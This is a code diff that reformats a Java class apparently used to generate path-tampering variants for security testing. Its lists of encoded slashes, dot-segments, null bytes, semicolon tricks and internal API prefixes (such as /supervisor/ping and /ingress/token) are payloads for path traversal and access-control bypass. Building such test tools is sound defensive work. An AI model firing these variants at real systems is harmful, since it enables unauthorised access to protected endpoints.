@@ -41,18 +41,88 @@ final class Tampering {
             "%uff0e%uff0e",
             "%ef%bc%8e%ef%bc%8e");
 
-    private static final List<String> SLASHES =
-            List.of("/", "%2f", "%252f", "%25252f", "\\", "%5c", "%255c", "//", "/./", "/%2e/", "%c0%af", "%ef%bc%8f", "/;/", "/;x=y/");
+    private static final List<String> SLASHES = List.of(
+            "/",
+            "%2f",
+            "%252f",
+            "%25252f",
+            "\\",
+            "%5c",
+            "%255c",
+            "//",
+            "/./",
+            "/%2e/",
+            "%c0%af",
+            "%ef%bc%8f",
+            "/;/",
+            "/;x=y/");
 
     private static final List<String> TAILS = List.of(
-            "/", "//", "/.", "/./", "/%2e", ";", ";/info", ";x=/info", ";.js", "%3b/info", "%3binfo", "%00", "%00/info", "%0a", "%0a/info",
-            "%20", "%09", "/info", "/%69nfo", "//info", "/../info", "/%2e%2e/info", "/x/..", "?/info", "?x=/info", "#/info", "%23/info",
-            "%3f/info", "%3f.js", ".js", "/x.js", "/icon", "/..;/info", "%c0%80", "%2finfo", "%252finfo", "%5cinfo");
+            "/",
+            "//",
+            "/.",
+            "/./",
+            "/%2e",
+            ";",
+            ";/info",
+            ";x=/info",
+            ";.js",
+            "%3b/info",
+            "%3binfo",
+            "%00",
+            "%00/info",
+            "%0a",
+            "%0a/info",
+            "%20",
+            "%09",
+            "/info",
+            "/%69nfo",
+            "//info",
+            "/../info",
+            "/%2e%2e/info",
+            "/x/..",
+            "?/info",
+            "?x=/info",
+            "#/info",
+            "%23/info",
+            "%3f/info",
+            "%3f.js",
+            ".js",
+            "/x.js",
+            "/icon",
+            "/..;/info",
+            "%c0%80",
+            "%2finfo",
+            "%252finfo",
+            "%5cinfo");
 
     private static final List<String> HEADS = List.of(
-            "/", "//", "/.", "/./", "/;", "/;x", "/%2e", "/%252e", "/%2f", "http://x", "http://x/", "//x", "/v2", "/v2/..", "/V2", "/info;",
-            "/app", "/app/..;", "/core/api", "/core/api/..", "/ingress/token", "/supervisor/ping;", "/discovery/", "/discovery/..",
-            "/services/;", "/addons/self");
+            "/",
+            "//",
+            "/.",
+            "/./",
+            "/;",
+            "/;x",
+            "/%2e",
+            "/%252e",
+            "/%2f",
+            "http://x",
+            "http://x/",
+            "//x",
+            "/v2",
+            "/v2/..",
+            "/V2",
+            "/info;",
+            "/app",
+            "/app/..;",
+            "/core/api",
+            "/core/api/..",
+            "/ingress/token",
+            "/supervisor/ping;",
+            "/discovery/",
+            "/discovery/..",
+            "/services/;",
+            "/addons/self");
 
     private static final Pattern LETTER = Pattern.compile("[a-z]");
 
@@ -62,7 +132,8 @@ final class Tampering {
     static List<String> of(String path) {
         Set<String> all = new LinkedHashSet<>();
         WAYS_IN.forEach(way -> UPS.forEach(up -> {
-            String climbed = way + ("/" + up).repeat((int) way.chars().filter(c -> c == '/').count());
+            String climbed = way
+                    + ("/" + up).repeat((int) way.chars().filter(c -> c == '/').count());
             all.add(climbed + path + (way.startsWith("/app") ? ".js" : ""));
         }));
         SLASHES.forEach(slash -> all.addAll(withSlash(path, slash)));
